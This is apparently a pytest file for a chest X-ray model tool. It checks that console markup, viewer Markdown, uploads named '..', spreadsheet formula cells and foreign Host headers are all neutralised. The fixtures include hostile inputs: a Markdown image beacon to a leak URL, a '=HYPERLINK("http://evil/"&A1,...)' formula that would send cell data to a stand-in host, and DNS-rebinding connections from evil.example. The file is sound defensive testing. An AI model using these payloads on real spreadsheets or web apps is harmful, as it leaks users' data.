"""Issue 22, findings 3, 7 and 8: what the tool prints, writes and serves from untrusted text.

- markup injection (3): a ``[/x]``, ``[v2]`` or ``:x:`` in a path, a site name, a file name or
  model metadata prints literally (cxrdebias.console), and the viewer shows metadata as plain
  text (no Markdown image fetched by the browser);
- tracebacks left (7): unwritable/misnamed outputs of ``predict`` (checked before inference),
  metadata that disagree with the graph, a truncated ``report.json``, a malformed
  ``config.yaml``, an upload named ``..``;
- the viewer server (8): Host header and XSRF/CORS options; CSV cells that a spreadsheet would
  run as a formula.

The models here are tiny hand-made ONNX graphs with the exported model's inputs, outputs and
metadata (no training).
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import numpy as np
import onnx
import pandas as pd
import pytest
from onnx import TensorProto, helper
from PIL import Image

from cxrdebias.data.preprocess import PreprocessSpec
from cxrdebias.deploy.onnx_metadata import FORMAT_KEY, FORMAT_VERSION, encode
from cxrdebias.deploy.predict import predict_to_csv
from cxrdebias.deploy.runtime import CXRModel, load_model
from cxrdebias.errors import CheckpointError, DataError, OutputError
from tests.conftest import REPO, open_row, run_cli, viewer_server, worklist

VIEWER = REPO / "apps" / "viewer.py"
HOSTILE = "[/x] [v2] :x: ![img](http://127.0.0.1:9/leak.png) <b>b</b>"


# -- helpers ------------------------------------------------------------------------------------
def toy_model(path: Path, *, size: int = 32, channels: int = 1, graph_size: int | None = None, **meta) -> Path:
    """An ONNX model with the exported model's names and metadata: probabilities from the mean
    intensity, the CAM from the channel mean (``graph_size``: a graph that takes another size)."""
    g = graph_size or size
    nodes = [
        helper.make_node("ReduceMean", ["image"], ["m"], axes=[1, 2, 3], keepdims=1),
        helper.make_node("Flatten", ["m"], ["f"], axis=1),
        helper.make_node("Neg", ["f"], ["nf"]),
        helper.make_node("Concat", ["nf", "f"], ["logits"], axis=1),
        helper.make_node("Softmax", ["logits"], ["probabilities"], axis=1),
        helper.make_node("ReduceMean", ["image"], ["c"], axes=[1], keepdims=0),
        helper.make_node("Sigmoid", ["c"], ["cam"]),
    ]
    graph = helper.make_graph(
        nodes,
        "toy",
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, ["N", channels, g, g])],
        [
            helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, ["N", 2]),
            helper.make_tensor_value_info("cam", TensorProto.FLOAT, ["N", g, g]),
        ],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    metadata = {
        FORMAT_KEY: FORMAT_VERSION,
        "model_version": "toy-1",
        "labels": ["negative", "positive"],
        "positive_label": "positive",
        "threshold": 0.5,
        "preprocessing": PreprocessSpec(image_size=size, channels=channels).model_dump(mode="json"),
        **meta,
    }
    for key, value in encode(metadata).items():
        entry = model.metadata_props.add()
        entry.key, entry.value = key, value
    path.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(model, str(path))
    return path


def noise_png(path: Path, seed: int = 0, side: int = 96) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(seed)
    Image.fromarray(rng.integers(0, 256, (side, side), dtype=np.uint8)).save(path)
    return path


def assert_one_line_error(code: int, err: str, *needles: str) -> None:
    assert code == 2, err
    assert "Traceback" not in err and err.count("error:") == 1, err
    for needle in needles:
        assert needle in err, err


# -- finding 3: markup injection on the console ---------------------------------------------------
def test_markup_in_model_metadata_and_paths_prints_literally(tmp_path, monkeypatch, capsys):
    """Model metadata and output paths with markup: no MarkupError, printed as they are."""
    label = "pos[/x]:x:"
    model = toy_model(tmp_path / "m[/x].onnx", model_version=f"v{HOSTILE}", labels=["negative", label], positive_label=label)
    image = noise_png(tmp_path / "in[v2]" / "a:x:.png")
    out_csv = tmp_path / "out[v2]" / "p[/x]:x:.csv"
    code, out, err = run_cli(["predict", image.parent, "--model", model, "--out", out_csv], monkeypatch, capsys)
    assert code == 0, err
    assert f"v{HOSTILE}" in err and str(model) in err
    assert str(out_csv) in out and label in out
    assert "❌" not in out + err
    assert out_csv.is_file()


def test_emoji_codes_and_markup_in_the_error_line(tmp_path, monkeypatch, capsys):
    missing = tmp_path / "[v2]" / "scan:x:.png"
    model = toy_model(tmp_path / "m.onnx")
    code, _, err = run_cli(["predict", missing, "--model", model, "--out", tmp_path / "p.csv"], monkeypatch, capsys)
    assert_one_line_error(code, err, str(missing))
    assert "❌" not in err


def test_site_names_and_manifest_text_print_literally(tmp_path, monkeypatch, capsys):
    """`data check` of a manifest whose site names and paths carry markup (a dropped row is
    reported with its path)."""
    root = tmp_path / "set[v2]"
    lines = ["path,label,site,patient_id"]
    for i in range(8):
        noise_png(root / f"img{i}.png", seed=i)
        lines.append(f"img{i}.png,{i % 2},{'[/x]site' if i < 4 else ':x:[red]b'},p{i}")
    lines.append("gone[/x].png,1,[/x]site,p99")
    (root / "manifest.csv").write_text("\n".join(lines) + "\n")
    code, out, err = run_cli(["data", "check", root / "manifest.csv", "--allow-drop"], monkeypatch, capsys)
    assert code == 0, err
    assert str(root / "manifest.csv") in out and "gone[/x].png" in err and "❌" not in out + err


def test_data_synth_prints_the_output_path_as_given(tmp_path, monkeypatch, capsys):
    out_dir = tmp_path / "synth[v2]:x:"
    code, _, err = run_cli(
        ["data", "synth", "--out", out_dir, "--image-size", "32", "--train-patients", "2", "--val-patients", "2", "--test-patients", "2"],
        monkeypatch, capsys,
    )
    assert code == 0, err
    assert str(out_dir / "manifest.csv") in err


def test_the_console_helper_escapes_and_has_no_emoji(capsys):
    from cxrdebias.console import esc, make_console

    console = make_console()
    console.print(f"[bold]x[/] {esc(HOSTILE)} {esc(Path('runs/[v2]/a'))}", highlight=False)
    assert capsys.readouterr().out.strip() == f"x {HOSTILE} runs/[v2]/a"


# -- finding 3: the viewer shows metadata as plain text -------------------------------------------
MARKDOWN_IMAGE = "![img](http://127.0.0.1:9/leak.png)"


def _markdown_values(at) -> list[str]:
    """Every string of the page that Streamlit renders as Markdown."""
    values = [m.value for m in at.markdown] + [e.value for e in at.error] + [i.value for i in at.info]
    values += [m.label for m in at.metric] + [str(m.value) for m in at.metric]
    values += [c for im in at.image for c in im.captions]
    return values


def test_viewer_shows_metadata_as_plain_text(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    label = f"pos{MARKDOWN_IMAGE}"
    model = toy_model(
        tmp_path / "m.onnx",
        model_version=f"v{MARKDOWN_IMAGE}",
        intended_use=f"use {MARKDOWN_IMAGE}",
        method={"name": f"end{MARKDOWN_IMAGE}"},
        labels=["negative", label],
        positive_label=label,
        validation={"per_site": {f"site{MARKDOWN_IMAGE}": {"n": 3}}, "note": f"note{MARKDOWN_IMAGE}"},
    )
    image = noise_png(tmp_path / "data" / "a.png")
    monkeypatch.setenv("CXRDEBIAS_VIEWER_MODEL", str(model))
    monkeypatch.setenv("CXRDEBIAS_VIEWER_DATA", str(image.parent))
    at = AppTest.from_file(str(VIEWER), default_timeout=120).run()
    assert not at.exception, at.exception
    open_row(at, image.name)
    assert not at.exception, at.exception
    assert not any(MARKDOWN_IMAGE in v for v in _markdown_values(at)), _markdown_values(at)
    shown = " ".join(t.value for t in at.sidebar.text)
    assert f"v{MARKDOWN_IMAGE}" in shown and f"use {MARKDOWN_IMAGE}" in shown and f"end{MARKDOWN_IMAGE}" in shown
    assert at.metric[0].label == "P(pos\\!\\[img\\]\\(http\\://127.0.0.1\\:9/leak.png\\))"


def test_viewer_error_messages_escape_file_names(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    model = toy_model(tmp_path / "m.onnx")
    bad = tmp_path / "data" / "x![img](leak.png).png"  # (no / in a file name)
    bad.parent.mkdir()
    bad.write_bytes(b"not an image")
    noise_png(tmp_path / "data" / "good.png")
    monkeypatch.setenv("CXRDEBIAS_VIEWER_MODEL", str(model))
    monkeypatch.setenv("CXRDEBIAS_VIEWER_DATA", str(bad.parent))
    at = AppTest.from_file(str(VIEWER), default_timeout=120).run()
    assert not at.exception, at.exception
    assert at.error and not any("![img](leak.png)" in e.value for e in at.error), [e.value for e in at.error]
    assert any("x\\!\\[img\\]\\(leak.png\\).png" in e.value for e in at.error), [e.value for e in at.error]


# -- finding 7: tracebacks left ---------------------------------------------------------------------
def _no_inference(monkeypatch) -> list:
    calls: list = []
    original = CXRModel.iter_predict

    def spy(self, *args, **kwargs):
        calls.append(args)
        return original(self, *args, **kwargs)

    monkeypatch.setattr(CXRModel, "iter_predict", spy)
    return calls


def test_predict_checks_its_outputs_before_inference(tmp_path, monkeypatch, capsys):
    model = toy_model(tmp_path / "m.onnx")
    image = noise_png(tmp_path / "in" / "a.png")
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    calls = _no_inference(monkeypatch)
    # the CSV's folder cannot be created (a file is in the way)
    code, _, err = run_cli(["predict", image, "--model", model, "--out", blocker / "p.csv"], monkeypatch, capsys)
    assert_one_line_error(code, err, str(blocker / "p.csv"))
    # --out names a folder
    folder = tmp_path / "outdir"
    folder.mkdir()
    for extra in ([], ["--force"]):
        code, _, err = run_cli(["predict", image, "--model", model, "--out", folder, *extra], monkeypatch, capsys)
        assert_one_line_error(code, err, str(folder), "is a folder")
    # --cams names a file, or a folder below a file
    for cams, what in ((blocker, "is a file"), (blocker / "cams", "cannot write")):
        code, _, err = run_cli(["predict", image, "--model", model, "--out", tmp_path / "p.csv", "--cams", cams], monkeypatch, capsys)
        assert_one_line_error(code, err, str(cams), what)
    assert calls == [] and not (tmp_path / "p.csv").exists()
    with pytest.raises(OutputError):
        predict_to_csv(load_model(model), [image], blocker / "p.csv")
    assert calls == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_predict_into_a_read_only_folder(tmp_path, monkeypatch, capsys):  # pragma: no cover - root here
    model = toy_model(tmp_path / "m.onnx")
    image = noise_png(tmp_path / "in" / "a.png")
    ro = tmp_path / "ro"
    ro.mkdir(mode=0o555)
    calls = _no_inference(monkeypatch)
    code, _, err = run_cli(["predict", image, "--model", model, "--out", ro / "p.csv"], monkeypatch, capsys)
    assert_one_line_error(code, err, str(ro / "p.csv"))
    assert calls == []


@pytest.mark.parametrize(("meta", "needle"), [({"size": 32, "graph_size": 48}, "'image'"), ({"channels": 3}, "'image'")])
def test_metadata_that_disagree_with_the_graph(tmp_path, monkeypatch, capsys, meta, needle):
    kwargs = dict(meta)
    if "channels" in kwargs:  # a 1-channel graph whose metadata say 3 channels
        path = toy_model(tmp_path / "m.onnx", size=32, channels=1)
        proto = onnx.load(str(path))
        props = {p.key: p.value for p in proto.metadata_props}
        props.update(encode({"preprocessing": PreprocessSpec(image_size=32, channels=3).model_dump(mode="json")}))
        del proto.metadata_props[:]
        for k, v in props.items():
            e = proto.metadata_props.add()
            e.key, e.value = k, v
        onnx.save(proto, str(path))
    else:
        path = toy_model(tmp_path / "m.onnx", **kwargs)
    with pytest.raises(CheckpointError, match=f"m.onnx: the graph's {needle}.*metadata"):
        load_model(path)
    image = noise_png(tmp_path / "in" / "a.png")
    code, _, err = run_cli(["predict", image, "--model", path, "--out", tmp_path / "p.csv"], monkeypatch, capsys)
    assert_one_line_error(code, err, "m.onnx", "do not belong to this graph")


def test_viewer_with_metadata_that_disagree_with_the_graph(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    model = toy_model(tmp_path / "m.onnx", size=32, graph_size=48)
    noise_png(tmp_path / "data" / "a.png")
    monkeypatch.setenv("CXRDEBIAS_VIEWER_MODEL", str(model))
    monkeypatch.setenv("CXRDEBIAS_VIEWER_DATA", str(tmp_path / "data"))
    at = AppTest.from_file(str(VIEWER), default_timeout=120).run()
    assert not at.exception, at.exception
    assert any("Cannot open the model" in e.value and "belong to this graph" in e.value for e in at.error)


def _evaluated_run(root: Path, report: str) -> Path:
    (root / "eval").mkdir(parents=True)
    (root / "eval" / "report.json").write_text(report)
    return root


def test_compare_on_a_truncated_or_foreign_report(tmp_path, monkeypatch, capsys):
    good = json.dumps({"method": {"name": "vanilla"}, "sites": [], "by_group": {}})
    a = _evaluated_run(tmp_path / "a", good[: len(good) // 2])
    b = _evaluated_run(tmp_path / "b", good)
    code, _, err = run_cli(["compare", a, b], monkeypatch, capsys)
    assert_one_line_error(code, err, str(a / "eval" / "report.json"))
    c = _evaluated_run(tmp_path / "c", "[1, 2]")
    code, _, err = run_cli(["compare", c, c], monkeypatch, capsys)
    assert_one_line_error(code, err, "report.json")


@pytest.mark.parametrize("text", ["data: [unclosed\n", "- just\n- a list\n", "\xff\xfe"])
@pytest.mark.parametrize("command", ["evaluate", "analyze-bias", "export"])
def test_malformed_config_yaml_in_a_run(tmp_path, monkeypatch, capsys, command, text):
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").write_bytes(text.encode("latin-1"))
    from cxrdebias.deploy import export as export_module
    from cxrdebias.experiments import bias_analysis

    # the model file is another finding's (issue 22, 1): here the config is read first or the model is a stand-in
    monkeypatch.setattr(export_module, "load_model_artefact", lambda path: (None, {"preprocess": {}}))
    monkeypatch.setattr(bias_analysis, "torch_load_checked", lambda path: {})
    args = {"evaluate": [run], "analyze-bias": [run], "export": [run, "--out", tmp_path / "m.onnx"]}[command]
    code, _, err = run_cli([command, *args], monkeypatch, capsys)
    assert_one_line_error(code, err, "config.yaml")


def test_upload_named_dot_dot(tmp_path):
    from cxrdebias.deploy.viewer_state import save_upload

    data = noise_png(tmp_path / "a.png").read_bytes()
    folder = tmp_path / "uploads" / "x"
    for name in ("..", ".", "../..", ""):
        item, _ = save_upload(name, data, folder)
        assert item.path.parent == folder and item.path.is_file() and item.name == "upload"
    with pytest.raises(DataError, match="cannot store this upload"):
        save_upload("a" * 300 + ".png", data, folder)


def test_viewer_upload_named_dot_dot(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("CXRDEBIAS_VIEWER_MODEL", str(toy_model(tmp_path / "m.onnx")))
    monkeypatch.delenv("CXRDEBIAS_VIEWER_DATA", raising=False)
    at = AppTest.from_file(str(VIEWER), default_timeout=120).run()
    data = noise_png(tmp_path / "a.png").read_bytes()
    at.file_uploader(key="uploads").set_value([("..", data, "image/png"), ("a" * 300 + ".png", data, "image/png")]).run()
    assert not at.exception, at.exception
    assert any("cannot store this upload" in e.value for e in at.error)
    assert "upload" in set(worklist(at).value["name"])  # stored as upload/upload


# -- finding 8: CSV cells and the viewer server -------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil/"&A1,"x")'


def test_spreadsheet_safe_cells():
    from cxrdebias.fileio import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in (FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'" + FORMULA, "'+1+2", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1",
    ]
    assert [spreadsheet_safe(v) for v in ("-0.5", "+1", "1e-3", -0.5, "site-a", "a=b", "")] == ["-0.5", "+1", "1e-3", -0.5, "site-a", "a=b", ""]


def test_predictions_csv_neutralises_formulas(tmp_path):
    root = tmp_path / "set"
    noise_png(root / "=cmd.png")
    noise_png(root / "b.png", seed=1)
    with (root / "manifest.csv").open("w", newline="") as f:
        csv.writer(f).writerows([["path", "label", "site", "patient_id"], ["=cmd.png", 1, FORMULA, "@p1"], ["b.png", 0, "-0.5", "+p2"]])
    label = "=positive"
    model = load_model(toy_model(tmp_path / "m.onnx", labels=["negative", label], positive_label=label))
    predict_to_csv(model, [root / "manifest.csv"], tmp_path / "p.csv")
    got = list(csv.DictReader((tmp_path / "p.csv").open()))
    first = next(r for r in got if r["file"].endswith("=cmd.png"))
    assert first["site"] == "'" + FORMULA and first["patient_id"] == "'@p1"
    second = next(r for r in got if r["file"].endswith("b.png"))
    assert second["site"] == "-0.5" and second["patient_id"] == "'+p2"  # a number in text form stays
    assert all(not r[c].startswith(("=", "@")) for r in got for c in r)
    assert {r["predicted_label"] for r in got} <= {"negative", "'" + label}
    assert float(first["probability"]) >= 0


def test_viewer_and_evaluate_csvs_neutralise_formulas(tmp_path):
    from cxrdebias.deploy.viewer_state import predictions_csv
    from cxrdebias.evaluation.report import to_csv
    from cxrdebias.experiments.evaluate import write_predictions

    table = pd.DataFrame(
        {"file": ["=a.png"], "patient": ["@p"], "site": [FORMULA], "probability": [0.25], "predicted_label": ["-x"], "ground_truth": [""], "disagrees": [None]}
    )
    row = next(csv.DictReader(io.StringIO(predictions_csv(table, 0.5).decode())))
    assert row["file"] == "'=a.png" and row["patient"] == "'@p" and row["site"] == "'" + FORMULA and row["predicted_label"] == "'-x"
    manifest = pd.DataFrame({"path": ["=a.png"], "patient_id": ["+p+1"], "site": [FORMULA], "label": [1]})
    write_predictions(tmp_path / "pred.csv", manifest, np.array([0.75]), 0.5)
    row = next(csv.DictReader((tmp_path / "pred.csv").open()))
    assert row["path"] == "'=a.png" and row["patient_id"] == "'+p+1" and row["site"] == "'" + FORMULA and row["probability"] == "0.75"
    entry = {c: 0 for c in ("n", "n_patients", "n_positive", "tp", "fp", "tn", "fn")}
    from cxrdebias.evaluation.site_report import SITE_METRICS

    entry |= {m: -0.5 for m in SITE_METRICS} | {"ci": {}, "n_valid_boot": {}}
    text = to_csv({"sites": [FORMULA], "by_group": {FORMULA: entry}, "overall": entry})
    assert "'" + FORMULA.replace('"', '""') in text and ",-0.5," in text


def test_viewer_command_closes_the_host_and_xsrf_gaps(tmp_path):
    from cxrdebias.cli.deploy import viewer_command

    cmd = viewer_command(tmp_path / "m.onnx", [], 8501)
    head = cmd[: cmd.index("--")]

    def values(option):
        return [head[i + 1] for i, x in enumerate(head) if x == option]

    assert values("--server.address") == ["127.0.0.1"]
    assert values("--server.enableXsrfProtection") == ["true"] and values("--server.enableCORS") == ["true"]
    assert sorted(values("--server.allowedHosts")) == ["127.0.0.1", "localhost"]
    assert values("--client.toolbarMode") == ["viewer"]  # no Deploy button


def test_viewer_websocket_refuses_a_foreign_host(tmp_path):
    """DNS rebinding: a page of evil.example resolved to 127.0.0.1 opens the WebSocket with its
    own Host (and Origin): refused; the page's own address is accepted."""

    websockets_sync = pytest.importorskip("websockets.sync.client")
    with viewer_server(toy_model(tmp_path / "m.onnx"), [], tmp_path) as port:
        def connect(host: str, origin: str) -> bool:
            """Open the page's WebSocket on 127.0.0.1 as the browser would for a page at ``host``."""
            import socket

            from websockets.exceptions import InvalidStatus

            sock = socket.create_connection(("127.0.0.1", port), timeout=10)
            try:
                with websockets_sync.connect(f"ws://{host}:{port}/_stcore/stream", sock=sock, origin=origin, open_timeout=10):
                    return True
            except InvalidStatus as exc:
                assert exc.response.status_code == 403
                return False

        assert connect("127.0.0.1", f"http://127.0.0.1:{port}")
        assert connect("localhost", f"http://localhost:{port}")
        assert not connect("evil.example", f"http://evil.example:{port}")  # DNS rebinding
        assert not connect("127.0.0.1", "http://evil.example")  # another site's page


def test_view_prints_no_markup_from_paths(tmp_path, monkeypatch, capsys):
    """`view` refuses a missing --data path whose name carries markup with one plain line."""
    model = toy_model(tmp_path / "m.onnx")
    missing = tmp_path / "[/x]:x:"
    code, _, err = run_cli(["view", "--model", model, "--data", missing], monkeypatch, capsys)
    assert_one_line_error(code, err, str(missing))


def test_no_console_without_the_helper():
    """Every Rich console of the package is made by cxrdebias.console.make_console (emoji off)."""
    offenders = []
    for path in (REPO / "cxrdebias").rglob("*.py"):
        text = path.read_text()
        if path.name != "console.py" and "Console(" in text:
            offenders.append(str(path.relative_to(REPO)))
    assert offenders == [], offenders
